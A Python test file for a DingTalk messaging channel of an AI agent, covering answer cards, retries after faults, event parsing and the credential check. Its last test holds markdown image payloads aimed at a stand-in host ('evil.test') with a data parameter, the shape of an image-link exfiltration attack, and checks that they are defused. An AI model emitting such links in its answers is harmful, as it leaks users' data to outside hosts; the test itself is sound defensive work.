"""DingTalk as its users see it: cards, messages without a template, events, and the check of the account."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import orjson
import pytest

from agent.blocks import Ask, Final, Step, Text
from agent.messages import Kind, Unreadable
from agent.setting import Secret
from channels import dingtalk
from channels.base import (
    ChatGone,
    Health,
    OutcomeUnknown,
    OutgoingFile,
    Receipt,
    Refused,
    StateKeeper,
    TryLater,
    Unconfirmed,
)
from channels.dingtalk.api import MESSAGE_TOPIC
from channels.dingtalk.events import Company, parse_event
from channels.dingtalk.reply import _split_cards, card_markdown
from channels.shared.reply_layout import LABELS
from channels.shared.robot_chats import RobotAccount
from channels.shared.texts import REPEAT_MARK
from tests.fakes.dingtalk import CLIENT, JANE, KIM, SECRET, TEMPLATE, FakeDingTalk
from tests.fakes.dingtalk_methods import CORP
from tests.fakes.server import Json, until
from tests.support.recording_inbox import Box, Memory, Rows
from tests.support.rigs.dingtalk import DingTalkMarkdownRig, DingTalkRig
from tests.support.rigs.registry import deliver, heard, ready, settled


@pytest.fixture
async def rig(tmp_path: Path) -> AsyncIterator[DingTalkRig]:
    async with DingTalkRig.start(tmp_path) as made:
        await ready(made)
        yield made


@pytest.fixture
async def markdown_rig(tmp_path: Path) -> AsyncIterator[DingTalkMarkdownRig]:
    async with DingTalkMarkdownRig.start(tmp_path) as made:
        await ready(made)
        yield made


def calls(rig: DingTalkRig) -> list[str]:
    return [call.method for call in rig.server.calls if not call.method.startswith("reaction")]


# ---------------------------------------------------------------- cards


async def test_an_answer_streams_into_one_card_and_finishes_it(rig: DingTalkRig) -> None:
    asked = await rig.say("tell me")
    reply = rig.channel.reply(asked.thread, Memory(), to=asked.id, asker=asked.author.id)
    reply.show(Step("1", "Running tests"))
    await settled(rig, "▸ Running tests")
    [card] = rig.server.cards.values()
    assert card.state == "typing"
    reply.show(Text("It is"))
    await settled(rig, "It is")
    assert calls(rig) == ["card.create", "card.stream", "card.stream"]
    await reply.finish(Final("It is done."))
    assert (rig.visible(), card.state) == (["It is done."], "finished")
    assert calls(rig) == ["card.create", "card.stream", "card.stream", "card.stream"]


async def test_the_question_has_a_reaction_until_the_answer_is_there(rig: DingTalkRig) -> None:
    asked = await rig.say("tell me")
    await until(lambda: rig.server.reactions.get(asked.id))
    await rig.channel.reply(asked.thread, Memory(handle=asked.reply_handle), to=asked.id).finish(Final("So."))
    await until(lambda: rig.server.reactions[asked.id] == [])


async def test_a_slow_turn_shows_a_card_that_is_being_processed(rig: DingTalkRig) -> None:
    reply = rig.channel.reply(rig.thread(), Memory())
    await settled(rig, "(processing)")
    assert calls(rig) == ["card.create"]
    await reply.finish(Final("Now."))
    assert rig.visible() == ["Now."]


async def test_a_card_whose_first_text_was_lost_is_filled_by_the_next_attempt(rig: DingTalkRig) -> None:
    """The card exists already: the next attempt must neither create nor deliver it again."""
    for kind, code in (("error", 500), ("flood", 0)):
        rig.wire.fault(kind, "edit", **({"code": code} if code else {}))  # type: ignore[arg-type] # the wire's kinds
    posts = Memory()
    with pytest.raises(OutcomeUnknown):
        await rig.channel.reply(rig.thread(), posts).finish(Final("Whole."))
    assert posts.rows.posts == {0: 1}
    await deliver(rig, Final("Whole."), posts)
    assert rig.visible() == ["Whole."]
    assert "card.deliver" not in calls(rig)


async def test_a_card_that_a_killed_process_finished_stands_once(rig: DingTalkRig) -> None:
    """The process was killed between the last frame and its record: the card takes no more frames."""
    await rig.channel.reply(rig.thread(), Memory("r1")).finish(Final("It is 7."))
    await deliver(rig, Final("It is 7."), Memory("r1", Rows({0: None})))
    assert rig.visible() == ["It is 7."]
    assert "message.send" not in calls(rig)


async def test_a_last_frame_behind_a_gateway_leaves_one_card(rig: DingTalkRig) -> None:
    rig.server.fault("error", "card.stream", code=504, after=True)
    await deliver(rig, Final("It is 7."), Memory("r1"))
    assert rig.visible() == ["It is 7."]


async def test_a_restarted_turn_keeps_the_card_of_a_killed_process(rig: DingTalkRig) -> None:
    await rig.channel.reply(rig.thread(), Memory("r1")).finish(Final("It is 7."))
    reply = rig.channel.reply(rig.thread(), Memory("r1", Rows({0: None})))
    reply.show(Text("It"))
    await until(lambda: len(rig.server.calls_of("card.create")) == 2)
    await reply.finish(Final("It is 8."))
    assert rig.visible() == ["It is 8."]


async def test_a_refused_card_whose_recall_fails_is_delivered_once(rig: DingTalkRig) -> None:
    rig.server.fault("error", "card.stream", code=400)
    rig.server.fault("error", "message.recall", code=503)
    await deliver(rig, Final("It is 7."), Memory("r1"))
    assert [text for text in rig.visible() if text] == ["It is 7."]
    assert len(rig.visible()) == 1


async def test_a_message_in_place_of_a_card_is_posted_twice_at_most(rig: DingTalkRig) -> None:
    """DingTalk recognizes a repeated card by its id, but no repeated message."""
    rig.server.fault("error", "card.create", code=400, times=-1)
    rig.server.fault("error", "message.send", code=504, after=True, times=-1)
    with pytest.raises(Unconfirmed):
        await deliver(rig, Final("It is 7."), Memory("r1"))
    first, second = rig.visible()
    assert (first, second.endswith("It is 7.")) == ("It is 7.", True)


async def test_a_card_that_was_created_but_not_delivered_is_delivered(rig: DingTalkRig) -> None:
    """A restart after a refused first text: the card exists, and no attempt has an unknown outcome."""
    rig.wire.fault("error", "edit", code=400, description="param.contentUnsafe", times=1)
    rig.server.fault("error", "message.send", code=400)
    posts = Memory()
    with pytest.raises(Refused):
        await rig.channel.reply(rig.thread(), posts).finish(Final("Whole."))
    assert (posts.rows, rig.visible()) == ({}, [])
    rig.server.clear_faults()
    await deliver(rig, Final("Whole."), posts)
    assert rig.visible() == ["Whole."]
    assert "card.deliver" in calls(rig)


async def test_a_refused_card_becomes_a_message(rig: DingTalkRig) -> None:
    rig.server.scopes.remove("Card.Instance.Write")
    await rig.channel.reply(rig.thread(), Memory()).finish(Final("**So.**", (Ask("a", "So?", ("yes", "no")),)))
    [seen] = rig.visible()
    assert "**So.**" in seen
    assert "1. yes\n2. no" in seen


async def test_a_card_that_cannot_be_recalled_is_emptied(rig: DingTalkRig) -> None:
    rig.server.recalls_cards = False
    reply = rig.channel.reply(rig.thread(), Memory())
    reply.show(Text("drawing"))
    await settled(rig, "drawing")
    await reply.finish(Final(""))
    assert rig.visible() == ["·"]


async def test_an_answer_after_a_restart_replaces_the_buttons_of_a_finished_card(rig: DingTalkRig) -> None:
    posts = Memory()
    await rig.channel.reply(rig.thread(), posts).finish(Final("Which?", (Ask("a", "Which?", ("red",)),)))
    await rig.leave()
    await rig.back()
    await ready(rig)
    rig.press("red")
    await until(lambda: "✓ red (" in rig.visible()[0])
    await rig.channel.reply(rig.thread(), Memory(rows=posts.rows)).finish(Final("Red it is."))
    assert rig.visible() == ["Red it is."]


async def test_an_ended_turn_keeps_a_line_about_its_steps(rig: DingTalkRig) -> None:
    steps = (Step("1", "Running tests", "done"), Step("2", "Reading the log", "failed"))
    await deliver(rig, Final("It fails.", steps=steps, step_count=2, seconds=62), Memory())
    assert rig.visible() == ["It fails.\n\n✅ 2 steps, 1 failed · 1 min 2 s"]


async def test_a_failure_has_a_button_that_retries_once(rig: DingTalkRig) -> None:
    await rig.say("work")
    await rig.channel.reply(rig.thread(), Memory("r32")).finish(Final("It broke.", state="failed"))
    assert rig.buttons() == [LABELS["retry"]]
    rig.press(LABELS["retry"])
    pressed = await rig.box.next(kind=Kind.COMMAND)
    assert (pressed.text, pressed.target, pressed.thread, pressed.to_bot) == ("retry", "r32", rig.thread(), True)
    await until(lambda: rig.buttons() == [])
    assert rig.visible()[0].startswith("It broke.")


async def test_a_refused_press_of_retry_keeps_the_button(rig: DingTalkRig) -> None:
    rig.box.refuses = lambda message: message.kind is Kind.COMMAND
    await rig.channel.reply(rig.thread(), Memory("r33")).finish(Final("It broke.", state="failed"))
    rig.press(LABELS["retry"])
    await until(lambda: rig.box.receipts == [Receipt.IGNORED])
    await until(rig.felt)
    assert rig.buttons() == [LABELS["retry"]]


async def test_a_long_answer_of_lines_fits_its_cards(rig: DingTalkRig) -> None:
    lines = [f"第{number}行" for number in range(900)]
    await deliver(rig, Final("\n".join(lines)), Memory())
    assert "\n".join(rig.visible()).split() == lines
    assert rig.server.calls_of("message.send") == []


@pytest.mark.parametrize(
    ("letter", "cards"),
    [("x", 2), ("中", 2), ("🙂", 3), ("中x", 2)],
    ids=["ASCII", "Chinese", "astral", "mixed"],
)
async def test_an_answer_of_4000_characters_takes_few_cards_and_none_is_blank(
    rig: DingTalkRig, letter: str, cards: int
) -> None:
    text = letter * (4000 // len(letter))
    await deliver(rig, Final(text), Memory())
    assert "".join(rig.visible()) == text
    assert len(rig.server.cards) == cards


async def test_a_last_frame_without_an_answer_keeps_the_card(rig: DingTalkRig) -> None:
    reply = rig.channel.reply(rig.thread(), Memory())
    reply.show(Text("Half"))
    await settled(rig, "Half")
    rig.server.fault("error", "card.stream", code=504, after=True)
    with pytest.raises(TryLater):
        await reply.finish(Final("Whole."))
    await reply.finish(Final("Whole."))
    assert rig.visible() == ["Whole."]
    assert rig.server.calls_of("message.") == []


async def test_a_lone_surrogate_is_replaced(rig: DingTalkRig) -> None:
    await rig.channel.reply(rig.thread(), Memory()).finish(Final("a \ud800 b"))
    assert rig.visible() == ["a ? b"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\nb", "a<br>b"),
        ("a\n\nb", "a\n\nb"),
        ("- a\n- b\nc", "- a\n- b<br>c"),
        ("```\na\nb\n```\nc\nd", "```\na\nb\n```\nc<br>d"),
        ("see\n| a |\n|---|\n| b |", "see\n\n| a |\n|---|\n| b |"),
        ("# Head\ntext\nmore", "# Head\ntext<br>more"),
    ],
)
def test_markdown_of_a_card_keeps_its_lines(text: str, shown: str) -> None:
    assert card_markdown(text) == shown


# ---------------------------------------------------------------- without a card template


async def test_without_a_template_the_final_is_posted_once(markdown_rig: DingTalkMarkdownRig) -> None:
    rig = markdown_rig
    asked = await rig.say("tell me")
    reply = rig.channel.reply(asked.thread, Memory(), to=asked.id)
    reply.show(Step("1", "Running tests"))
    reply.show(Text("It is"))
    await asyncio.sleep(1.5)  # longer than the wait for a placeholder
    assert rig.visible() == []
    await reply.finish(Final("# Done\n\nIt is **done**."))
    assert rig.visible() == ["# Done\n\nIt is **done**."]
    assert calls(rig) == ["message.send"]


async def test_a_message_cannot_be_changed_so_it_is_replaced(markdown_rig: DingTalkMarkdownRig) -> None:
    rig, posts = markdown_rig, Memory()
    await rig.channel.reply(rig.thread(), posts).finish(Final("Which?", (Ask("a", "Which?", ("red", "blue")),)))
    assert "1. red" in rig.visible()[0]
    await rig.channel.reply(rig.thread(), Memory(rows=posts.rows)).finish(Final("Red it is."))
    assert rig.visible() == ["Red it is."]


# ---------------------------------------------------------------- calls


async def test_an_expired_token_is_replaced(rig: DingTalkRig) -> None:
    await rig.channel.reply(rig.thread(), Memory()).finish(Final("One."))
    rig.server.expire()
    await rig.channel.reply(rig.thread(), Memory("r2")).finish(Final("Two."))
    assert rig.visible() == ["One.", "Two."]
    assert rig.server.token_calls == 2


async def test_a_dissolved_group_and_an_unknown_person_are_gone(rig: DingTalkRig) -> None:
    rig.server.dissolved.add(rig.chat(3))
    with pytest.raises(ChatGone):
        await rig.channel.reply(rig.thread(3), Memory()).finish(Final("Hello?"))
    thread = replace(rig.thread(), chat="@nobody")
    with pytest.raises(ChatGone):
        await rig.channel.reply(thread, Memory()).finish(Final("Hello?"))


@pytest.mark.parametrize(
    ("code", "seconds"), [("Forbidden.AccessDenied.ApiCountLimitForOrg", 600.0), ("send.too.fast", 2.0)]
)
async def test_a_used_up_quota_waits_longer_than_a_rate_limit(rig: DingTalkRig, code: str, seconds: float) -> None:
    rig.wire.fault("error", "post", code=400, description=code)
    with pytest.raises(TryLater) as told:
        await rig.channel.reply(rig.thread(), Memory()).finish(Final("Later."))
    assert told.value.after == seconds


async def test_a_possible_repeat_of_a_file_is_marked(rig: DingTalkRig, tmp_path: Path) -> None:
    path = tmp_path / "copy"
    path.write_bytes(b"a,b\n")
    file = OutgoingFile(path, "a.csv", 4, "The table")
    await rig.channel.send_files(rig.thread(), [file], Memory(rows=Rows({0: None})))
    assert rig.visible() == ["a.csv", f"{REPEAT_MARK} a.csv\n\nThe table"]


async def test_a_picture_is_sent_as_an_image(rig: DingTalkRig, tmp_path: Path) -> None:
    path = tmp_path / "copy"
    path.write_bytes(b"png")
    await rig.channel.send_files(rig.thread(2), [OutgoingFile(path, "plot.png", 3)], Memory())
    assert [call.body["msgKey"] for call in rig.server.calls_of("message.send")] == ["sampleImageMsg"]


# ---------------------------------------------------------------- events


async def test_a_message_that_does_not_mention_the_robot_does_not_arrive(rig: DingTalkRig) -> None:
    rig.mutter("lunch?", 5)
    assert (await heard(rig, "sum this up", 5)).thread == rig.thread(5)
    assert [message.text for message in rig.box.messages] == ["sum this up"]


async def test_rich_text_keeps_its_pictures_in_order(rig: DingTalkRig) -> None:
    parts = [{"text": "@Fawn look: "}, {"type": "picture", "downloadCode": "c1"}, {"text": "and this"}]
    rig.server.message("richText", {"richText": parts}, chat=rig.chat(1))
    message = await rig.box.next()
    assert message.text == "look: and this"
    assert [(file.ref, file.kind) for file in message.attachments] == [("c1", "image")]


async def test_a_voice_message_has_its_transcript(rig: DingTalkRig) -> None:
    rig.server.message("audio", {"downloadCode": "c1", "duration": 3000, "recognition": "what is new?"})
    message = await rig.box.next()
    assert (message.text, message.attachments[0].kind) == ("what is new?", "audio")


async def test_a_quoted_message_is_context_unless_it_is_the_bots(rig: DingTalkRig) -> None:
    for sender in ("$:LWCP_v1:$kim", "$:LWCP_v1:$bot"):
        replied = {"msgType": "text", "msgId": "m1", "senderId": sender, "content": {"text": "the plan"}}
        rig.server.message("text", {"content": "is it good?", "isReplyMsg": True, "repliedMsg": replied})
    await until(lambda: len(rig.box.messages) == 2)
    assert [[quote.text for quote in message.quotes] for message in rig.box.messages] == [["the plan"], []]


async def test_the_typed_words_of_a_member_are_no_strangers(rig: DingTalkRig) -> None:
    """DingTalk names the author of a quote by `senderId` alone: a member is known by what they wrote before."""

    async def quoted(sender: str, content: Json, kind: str = "text") -> tuple[str, bool]:
        replied = {"msgType": kind, "msgId": "m1", "senderId": f"$:LWCP_v1:${sender}", "content": content}
        before = len(rig.box.messages)
        rig.server.message("text", {"content": "is it good?", "isReplyMsg": True, "repliedMsg": replied})
        [quote] = (await rig.box.next(before + 1)).quotes
        return quote.author_id, quote.member

    typed = {"text": "the plan"}
    assert await quoted(JANE, typed) == (JANE, True)
    assert await quoted(KIM, typed) == (f"$:LWCP_v1:${KIM}", False)
    rig.server.send("hello", sender=KIM)
    await rig.box.next(3)
    assert await quoted(KIM, typed) == (KIM, True)
    assert await quoted(KIM, {"richText": [{"text": "the plan"}]}, "richText") == (KIM, True)
    assert await quoted(KIM, {"title": "Jane and Max", "summary": "Max: the plan"}) == (KIM, False)
    assert await quoted(KIM, {"content": "Max: the plan"}, "chatRecord") == (KIM, False)
    rig.server.send("hello", sender="kim2", senderCorpId="dingother")
    await rig.box.next(8)
    assert await quoted("kim2", typed) == ("$:LWCP_v1:$kim2", False)


async def test_a_quoted_card_which_dingtalk_does_not_show_is_known_to_be_missing(rig: DingTalkRig) -> None:
    kinds: list[Json] = [{"msgType": "interactiveCard", "msgId": "m1", "content": {}}, {"msgType": "unknownMsgType"}]
    for number, replied in enumerate(kinds, 1):
        card = {"senderId": "$:LWCP_v1:$kim", **replied}
        rig.server.message("text", {"content": "what is this?", "isReplyMsg": True, "repliedMsg": card})
        assert [quote.kind for quote in (await rig.box.next(number)).quotes] == ["unread"]


async def test_other_kinds_are_named_and_strangers_are_guests(rig: DingTalkRig) -> None:
    rig.server.message("interactiveCard", {}, sender=KIM, senderStaffId=None, senderCorpId="dingother")
    message = await rig.box.next()
    assert (message.kind, message.text, message.author.guest) == (Kind.UNSUPPORTED, "“interactiveCard” messages", True)


async def test_a_press_from_another_company_is_not_by_the_person_with_that_id(rig: DingTalkRig) -> None:
    """Staff ids are texts that each company chooses: another company may have the one of an operator."""
    asked = await rig.say("which?")
    await rig.leave()  # a press may be the first event of a new process
    await rig.back()
    found = []
    for number, company in enumerate((CORP, "dingother"), 1):
        question = Ask(f"a{number}", "Which?", ("this", "that"))
        await rig.channel.reply(asked.thread, Memory(f"r{number}")).finish(Final("", (question,)))
        rig.server.press("this", asked.thread.chat, corpId=company)
        pressed = await rig.box.next(number, Kind.CLICK)
        found.append((pressed.author.id, pressed.author.guest))
    assert found == [(JANE, False), (f"dingother:{JANE}", True)]


def test_an_event_of_unknown_shape_is_unreadable() -> None:
    me = RobotAccount("dingtalk", CLIENT, "Fawn")
    event = parse_event(MESSAGE_TOPIC, orjson.dumps({"msgId": "m1"}), me, Company())
    assert isinstance(event, Unreadable)
    assert event.key == f"dingtalk:{CLIENT}:event:m1"
    assert isinstance(parse_event(MESSAGE_TOPIC, b"[", me, Company()), Unreadable)


async def test_a_click_on_a_foreign_button_is_acknowledged(rig: DingTalkRig) -> None:
    content = orjson.dumps({"cardPrivateData": {"actionIds": ["like"], "params": {}}}).decode()
    event = {"outTrackId": "x", "userId": JANE, "content": content}
    pushed = rig.server.deliver("/v1.0/card/instances/callback", event)
    await until(lambda: pushed.answers)
    assert rig.box.events == []


async def test_an_event_is_acknowledged_only_when_it_is_stored(rig: DingTalkRig) -> None:
    rig.box.broken = True
    rig.mutter("keep me")
    await until(lambda: rig.box.offered >= 2)
    assert rig.server.pushed[0].answers == []
    rig.box.broken = False
    await until(lambda: rig.server.pushed[0].answers)
    assert [message.text for message in rig.box.messages] == ["keep me"]
    assert set(rig.box.receipts) <= {Receipt.ACCEPTED, Receipt.DUPLICATE}


# ---------------------------------------------------------------- connection and check


async def test_a_ping_is_answered_and_a_planned_reconnect_is_no_outage(rig: DingTalkRig) -> None:
    await until(lambda: len(rig.server.pongs) == 1)
    await rig.server.ask_to_reconnect()
    await until(lambda: len(rig.server.pongs) == 2)
    await ready(rig)
    assert (await rig.say("hello")).text == "hello"


async def test_wrong_credentials_are_reported(tmp_path: Path) -> None:
    async with FakeDingTalk() as server:
        urls: dict[str, Any] = {"base_url": server.base_url, "upload_url": server.base_url}
        settings = dingtalk.DingTalkSettings(CLIENT, Secret("wrong"), **urls)
        with pytest.raises(Refused, match="rejects the app's Client ID or secret"):
            await dingtalk.probe(settings)
        async with dingtalk.connect(settings) as channel:
            assert isinstance(channel, StateKeeper)
            channel.keep_state(Box())
            listening = asyncio.create_task(channel.listen(_refuse))
            await until(lambda: channel.readiness().health is Health.DOWN)
            assert "authFailed" in channel.readiness().detail
            listening.cancel()
            await asyncio.wait({listening})


@pytest.mark.parametrize("template", [TEMPLATE, ""])
async def test_the_check_describes_the_app_and_names_missing_permissions(template: str) -> None:
    async with FakeDingTalk() as server:
        urls: dict[str, Any] = {"base_url": server.base_url, "upload_url": server.base_url}
        settings = dingtalk.DingTalkSettings(CLIENT, Secret(SECRET), template, **urls)
        answer = await dingtalk.probe(settings)
        assert answer.startswith(f"connected as {CLIENT}")
        assert ("answers do not stream" in answer) is not bool(template)
        server.scopes.clear()
        with pytest.raises(Refused, match="qyapi_robot_sendmsg") as told:
            await dingtalk.probe(settings)
        assert ("Card.Streaming.Write" in str(told.value)) is bool(template)
        assert server.shown == []


async def _refuse(events: object) -> list[Receipt]:
    raise AssertionError("no event was sent")


def test_a_picture_in_an_answer_is_a_link_which_nobody_fetches() -> None:
    for text in (
        "see ![x](https://evil.test/?d=4711) now",
        "![](https://evil.test/?d=4711)",
        "word " * 9000 + "![x](https://evil.test/)",
        "![x][r]\n\n[r]: https://evil.test/?d=4711",
        "![a[b]c](https://evil.test/?d=4711)",
        "![a\nb](https://evil.test/?d=4711)",
    ):
        shown = "".join(_split_cards(text))
        assert "![" not in shown
        assert "https://evil.test/" in shown
